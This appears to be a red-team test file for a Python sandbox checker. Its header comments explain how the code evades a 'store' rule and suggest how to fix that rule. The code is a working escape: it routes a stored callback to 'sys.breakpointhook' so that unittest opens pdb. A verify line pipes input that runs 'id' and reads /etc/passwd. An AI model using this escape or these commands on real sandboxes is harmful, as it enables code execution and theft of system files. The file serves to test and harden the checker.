# expect: reject store
# line: 24
# why: the red team's round 26m ok_09 (its header below): a reader by name (attrgetter, itemgetter, methodcaller) handed on returns whatever the object binds, holds or answers under that name; an instance holds what its class's methods store into its attributes when code reads them by name
# goal: FULL ESCAPE: runs id, reads /etc/passwd (pdb through sys.breakpointhook)
# mechanism: as ok_08 (h.put([run]) stores into self.f), run appends "sys.breakpointhook"
# rule slipped: store (maybe_function of the callback's argument -> false): as ok_08
# family M ('a program method or constructor fills self's attributes'): reads_only takes `h.m(args)` for a read when m
#   is not a mutating_method name nor a dunder (and the call's value is only read), and maybe_function(K(args)) asks only
#   class_hands_out/program_chain, never what the program's own methods (__init__ included) store into self's attributes
#   from their parameters. The 26l fix counts `h.f = v` at the name's occurrence only, not `self.f = v` inside K.
# principle: an instance of a program class holds whatever any of its methods stores into self (attribute stores, self.x.append,
#   setattr on self) from a value that may hold something: extend the "(inst)K" rule from item stores on self to attribute
#   stores and mutations of self's attributes, and make such a class hand out (class_hands_out true), so that a call of
#   any of its methods on h, and K(args), count as fills.
# verify: checker exit 0; printf '!import os; os.system("id")\n!print(open("/etc/passwd").read()[:60])\nc\n' | python3 THIS -> uid=0(root)... root:x:0:0:...
import contextlib
import logging
import operator
import sys
import unittest


def run(x, *a):
    x.append("sys.breakpointhook")
    return 0


class K:
    def put(self, v):
        self.f = v


h = K()
h.put([run])
es = contextlib.ExitStack()
es.callback(operator.getitem(operator.call(operator.attrgetter("f"), h), 0), sys.argv)
es.close()
print(sys.argv)
unittest.main(exit=False)
